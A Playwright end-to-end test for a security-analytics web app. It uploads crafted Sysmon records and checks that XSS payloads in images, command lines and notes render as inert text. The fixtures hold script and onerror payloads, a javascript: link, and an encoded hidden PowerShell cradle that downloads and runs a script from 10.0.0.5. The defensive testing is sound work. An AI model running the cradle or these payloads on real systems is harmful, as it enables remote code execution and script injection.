/**
 * Attacker-controlled strings stay text: Sysmon process records whose image and command line carry
 * HTML and script, plus an encoded PowerShell launch so the analyzers build a lens, are uploaded through
 * the product and viewed on Incidents, in the lens, the node panel and the timeline (and a hostile note).
 * Nothing may run (window.__xss stays undefined) and no element may be made from the payloads.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { E2E_DIR, screenshotPath } from './stack-info';

/** Screenshots go where the other browser tests keep theirs (e2e/screenshots) and to test-results/screenshots. */
async function shot(page: Page, name: string, fullPage = true): Promise<void> {
  const file = screenshotPath(name);
  await page.screenshot({ path: file, fullPage });
  const dir = path.resolve(E2E_DIR, '../test-results/screenshots');
  fs.mkdirSync(dir, { recursive: true });
  fs.copyFileSync(file, path.join(dir, `${name}.png`));
}

const IMG = '<img src=x onerror=window.__xss=1>';
const SCRIPT = '<script>window.__xss=1</script>';

const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

function processRecord(o: {
  host: string;
  time: string;
  guid: string;
  pid: number;
  image: string;
  commandLine: string;
  parentGuid: string;
  parentPid: number;
  parentImage: string;
}) {
  return JSON.stringify({
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    Hostname: o.host,
    UtcTime: o.time,
    ProcessGuid: o.guid,
    ProcessId: String(o.pid),
    Image: o.image,
    CommandLine: o.commandLine,
    CurrentDirectory: 'C:\\Users\\Public\\',
    User: `${o.host}\\${IMG}`,
    IntegrityLevel: 'High',
    ParentProcessGuid: o.parentGuid,
    ParentProcessId: String(o.parentPid),
    ParentImage: o.parentImage,
  });
}

async function assertInert(page: Page, where: string) {
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), where).toBeUndefined();
  await expect(page.locator('img[src="x"]'), where).toHaveCount(0);
  await expect(page.locator('img[onerror]'), where).toHaveCount(0);
  expect(
    await page.evaluate(() => [...document.scripts].some((s) => s.textContent?.includes('window.__xss'))),
    where,
  ).toBe(false);
  await expect(page.locator('a[href^="javascript:"]'), where).toHaveCount(0);
}

test.describe('xss', () => {
  test.setTimeout(300_000);

  test('hostile images, command lines and notes are shown as text everywhere', async ({ adminPage: page }) => {
    const host = `XSSHOST-${randomBytes(3).toString('hex').toUpperCase()}`;
    const g = (n: number) => `{5e1c0000-0000-0000-0000-${randomBytes(5).toString('hex')}${n.toString().padStart(2, '0')}}`;
    const [g0, g1, g2, g3] = [g(0), g(1), g(2), g(3)];
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
    const lines = [
      processRecord({
        host,
        time: '2024-03-01 10:00:00.000',
        guid: g1,
        pid: 4100,
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: `cmd.exe /c "${IMG}" & powershell -NoP -W Hidden -enc ${enc(cradle)}`,
        parentGuid: g0,
        parentPid: 4000,
        parentImage: 'C:\\Windows\\explorer.exe',
      }),
      processRecord({
        host,
        time: '2024-03-01 10:00:01.000',
        guid: g2,
        pid: 4200,
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: `powershell.exe -NoP -NonI -W Hidden -enc ${enc(cradle)} ${SCRIPT}`,
        parentGuid: g1,
        parentPid: 4100,
        parentImage: 'C:\\Windows\\System32\\cmd.exe',
      }),
      processRecord({
        host,
        time: '2024-03-01 10:00:02.000',
        guid: g3,
        pid: 4300,
        image: `C:\\Users\\Public\\${IMG}.exe`,
        commandLine: `"C:\\Users\\Public\\${IMG}.exe" ${SCRIPT} -enc ${enc(cradle)}`,
        parentGuid: g2,
        parentPid: 4200,
        parentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      }),
    ];
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lg-e2e-xss-'));
    const file = path.join(dir, `xss-${host.toLowerCase()}.jsonl`);
    fs.writeFileSync(file, `${lines.join('\n')}\n`);
    try {
      await page.goto('/upload');
      await page.getByTestId('file-input').setInputFiles(file);
      const card = page.getByTestId('file-card').filter({ hasText: path.basename(file) });
      await expect(card.getByTestId('upload-status')).toHaveText('Done', { timeout: 180_000 });

      // Incidents: the lens appears (live, reload as a fallback).
      await page.goto(`/incidents?q=${encodeURIComponent(host)}`);
      const rows = page.getByTestId('lens-row');
      await expect(async () => {
        if ((await rows.count()) === 0) await page.reload();
        await expect(rows.first()).toBeVisible({ timeout: 10_000 });
      }).toPass({ timeout: 120_000 });
      await assertInert(page, 'incidents');
      await shot(page, 'xss-incidents');

      // The lens: header, graph, timeline, node list.
      await rows.first().getByTestId('lens-link').click();
      await expect(page.getByTestId('engagement')).toBeVisible();
      const timeline = page.getByTestId('timeline');
      await expect(timeline).toBeVisible();
      await expect(page.getByTestId('node-list')).toContainText(IMG);
      await assertInert(page, 'lens');

      // Every node's panel, and every timeline entry.
      const nodeRows = page.getByTestId('node-row');
      const n = await nodeRows.count();
      let sawPayloadAsText = false;
      for (let i = 0; i < n; i++) {
        await nodeRows.nth(i).getByTestId('node-select').click();
        const panel = page.getByTestId('node-panel');
        await expect(panel.getByTestId('node-props')).toBeVisible();
        const text = (await panel.textContent()) ?? '';
        if (text.includes(SCRIPT) || text.includes(IMG)) sawPayloadAsText = true;
        await assertInert(page, `node panel ${i}`);
      }
      expect(sawPayloadAsText).toBe(true);
      await shot(page, 'xss-node-panel');

      const entries = page.getByTestId('timeline-entry');
      const m = Math.min(await entries.count(), 20);
      for (let i = 0; i < m; i++) await entries.nth(i).click();
      await assertInert(page, 'timeline');

      // A hostile note (raw HTML and a javascript: link) renders inert.
      await page.getByTestId('tab-notes').click();
      const marker = `xss-note-${randomBytes(3).toString('hex')}`;
      await page
        .locator('#note-lens')
        .fill(`${marker} ${IMG} ${SCRIPT} [click me](javascript:window.__xss=1) ![pic](x)`);
      await page.getByTestId('lens-note-form').getByRole('button', { name: 'Add note' }).click();
      const note = page.getByTestId('note').filter({ hasText: marker });
      await expect(note).toBeVisible();
      await assertInert(page, 'notes');
      await shot(page, 'xss-notes');

      // The report and audit views too.
      await page.getByTestId('tab-risks').click();
      await assertInert(page, 'risks');
      await page.getByTestId('tab-audit').click();
      await assertInert(page, 'audit');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
